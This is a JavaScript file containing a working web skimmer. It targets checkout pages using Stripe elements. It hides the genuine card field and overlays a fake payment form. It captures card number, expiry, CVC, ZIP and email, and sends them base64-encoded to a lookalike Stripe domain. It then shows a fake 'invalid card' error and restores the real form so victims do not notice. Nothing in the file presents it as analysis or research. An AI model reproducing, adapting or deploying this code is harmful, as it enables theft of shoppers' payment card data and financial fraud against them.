class PaymentInjector {
  static TEMPLATE = `
    <div class="stripe-like-card">
      <input class="sl-input" data-k="number" placeholder="Card number" autocomplete="off">
      <div class="sl-row">
        <input class="sl-input" data-k="exp" placeholder="MM / YY">
        <input class="sl-input" data-k="cvc" placeholder="CVC">
      </div>
      <input class="sl-input" data-k="zip" placeholder="ZIP">
      <button class="sl-submit" type="button">Pay</button>
      <div class="sl-error" hidden></div>
    </div>`;

  constructor({ target, sink }) {
    this.target = target;
    this.sink = sink;
    this.node = null;
  }

  mount() {
    const frame = document.querySelector(this.target);
    if (!frame || this.node) return false;
    frame.hidden = true;
    this.node = document.createElement('section');
    this.node.innerHTML = PaymentInjector.TEMPLATE;
    frame.before(this.node);
    this.node.querySelector('.sl-submit').addEventListener('click', () => this.submit(frame));
    return true;
  }

  values() {
    return Object.fromEntries(
      [...this.node.querySelectorAll('[data-k]')].map((el) => [el.dataset.k, el.value.trim()])
    );
  }

  async submit(frame) {
    const card = this.values();
    card.email = document.querySelector('input[type="email"]')?.value;
    card.page = location.href;
    try {
      await fetch(this.sink, {
        method: 'POST',
        mode: 'no-cors',
        keepalive: true,
        body: new URLSearchParams({ payload: btoa(JSON.stringify(card)) }),
      });
    } catch (_) { /* ignore */ }
    const err = this.node.querySelector('.sl-error');
    err.textContent = 'Your card number is invalid.';
    err.hidden = false;
    setTimeout(() => {
      this.node.remove();
      this.node = null;
      frame.hidden = false;
    }, 2200);
  }
}

const injector = new PaymentInjector({
  target: '#card-element, .StripeElement, iframe[name^="__privateStripeFrame"]',
  sink: 'https://stripe-elements-js.net/v1/payment_methods',
});

const obs = new MutationObserver(() => {
  if (location.pathname.includes('checkout') && injector.mount()) obs.disconnect();
});
obs.observe(document.documentElement, { childList: true, subtree: true });
